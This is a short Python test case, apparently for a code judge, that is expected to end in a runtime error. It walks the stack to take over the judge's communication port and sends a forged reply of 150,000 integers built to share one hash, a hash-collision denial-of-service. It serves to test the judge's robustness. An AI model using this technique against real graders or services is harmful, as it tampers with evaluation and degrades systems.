# attack: a set of numbers that share one hash, written by hand so that only the judge builds it
# door: call
# verdict: runtime_error
import json
import sys


def channel():
    frame = sys._getframe()
    while "port" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["port"]


PORT = channel()


def add(left, right):
    frame = sys._getframe(1)
    while "op" not in frame.f_locals:
        frame = frame.f_back
    alike = [number * (2**61 - 1) for number in range(1, 150_000)]
    reply = {"t": "reply", "n": frame.f_locals["op"]["n"], "value": {"$": "set", "v": alike}}
    payload = json.dumps(reply, separators=(",", ":")).encode()
    PORT.send_packed(len(payload).to_bytes(4, "big") + payload)
    PORT.receive()
